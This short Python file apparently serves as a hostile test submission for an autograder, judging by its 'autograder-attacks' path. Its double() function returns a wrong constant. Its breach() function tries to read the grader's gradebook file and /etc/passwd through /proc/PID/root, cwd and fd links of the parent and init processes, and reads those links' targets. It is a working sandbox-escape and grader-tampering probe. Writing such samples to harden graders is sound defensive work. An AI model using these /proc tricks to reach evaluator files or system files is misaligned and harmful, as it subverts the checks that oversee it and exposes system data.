"""Reaches the grader's files through /proc/PID/root, cwd and fd."""
import os


def double(x):
    return 0.0


def breach():
    for number in {os.getppid(), 1, "self", "thread-self"}:
        for name in ("root/tmp/autograder-attacks/gradebook.txt", "cwd/gradebook.txt", "root/etc/passwd"):
            try:
                return open(f"/proc/{number}/{name}").read()[:20]
            except OSError:
                pass
    for number in {os.getppid(), 1} - {os.getpid()}:
        for link in ("root", "cwd", "exe", *(f"fd/{n}" for n in range(10))):
            try:
                return f"{number} {os.readlink(f'/proc/{number}/{link}')}"
            except OSError:
                pass
    return False
